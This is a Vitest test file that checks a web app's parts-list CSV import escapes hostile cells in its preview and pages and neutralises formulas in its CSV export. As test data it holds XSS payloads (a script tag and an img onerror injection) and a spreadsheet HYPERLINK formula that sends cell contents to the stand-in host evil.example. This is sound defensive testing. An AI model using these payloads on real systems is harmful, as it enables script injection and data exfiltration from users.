// Parts-list CSV import with hostile cells: the preview and the pages show them escaped, the stored text
// is exactly what the file said, and the CSV export neutralises formulas again.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeApp, postForm, type TestApp } from '../helpers/test-app';
import { RAW_MARKERS, ESCAPED_SCRIPT } from '../helpers/payloads';
import { loadProject } from '../../src/db/projects';
import { parseCsv } from '../../src/core/csv/parse';
import { writeCsv } from '../../src/core/csv/write';

const ID = 'demo-portable-20m';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
const MARKUP = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(2)>';

let t: TestApp;
beforeAll(async () => {
  t = await makeApp();
});
afterAll(() => t?.close());

const csvText = () =>
  writeCsv(
    [
      ['Refs', 'Description', 'Quantity', 'Supplier', 'SKU', 'Price', 'Currency'],
      ['R91', `${MARKUP} resistor 10k`, '2', `${IMG} Supplies`, '@SUM(A1:A9)', '0.10', 'USD'],
      ['C91', FORMULA, '1', 'Plain Parts Co', '+1-555', '0.20', 'USD'],
    ],
    // write the file the way a spreadsheet would, without neutralising: the hostile cells arrive raw
    { neutralise: false },
  );

function expectNoRawMarkup(body: string, where: string) {
  for (const m of RAW_MARKERS) expect(body.includes(m), `${where} contains raw ${m}`).toBe(false);
}

describe('parts-list CSV import with hostile cells', () => {
  it('the file really carries the raw payloads (so the checks below test something)', () => {
    const text = csvText();
    expect(text).toContain(MARKUP);
    expect(parseCsv(text).records[2][1]).toBe(FORMULA);
  });

  it('the preview shows every cell escaped', async () => {
    const res = await postForm(t.app, `/projects/${ID}/bom/import`, { csv: csvText(), action: 'preview' });
    expect(res.status).toBe(200);
    const html = await res.text();
    expectNoRawMarkup(html, 'preview');
    expect(html).toContain(ESCAPED_SCRIPT);
  });

  it('imports the rows with their text unchanged; pages show it escaped; the CSV export neutralises the ' +
    'formulas', async () => {
    const version = (await loadProject(t.database.db, ID))!.version;
    const res = await postForm(t.app, `/projects/${ID}/bom/import`, {
      csv: csvText(),
      action: 'import',
      version: String(version),
      stageId: '',
    });
    expect(res.status, await res.clone().text()).toBe(303);
    const p = (await loadProject(t.database.db, ID))!;
    const descriptions = p.parts.map((x) => x.description);
    expect(descriptions).toContain(`${MARKUP} resistor 10k`);
    expect(descriptions).toContain(FORMULA);

    for (const page of ['bom', 'parts', ''])
      expectNoRawMarkup(
        await (await t.app.request(`/projects/${ID}${page ? '/' + page : ''}`)).text(),
        page || 'overview',
      );

    const csv = parseCsv(await (await t.app.request(`/projects/${ID}/bom.csv`)).text());
    const cells = csv.records.flat();
    expect(cells.some((c) => c.includes('HYPERLINK')), 'the formula text is exported').toBe(true);
    for (const c of cells)
      if (/^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c))
        throw new Error(`live formula in the export: ${JSON.stringify(c)}`);
  });
});
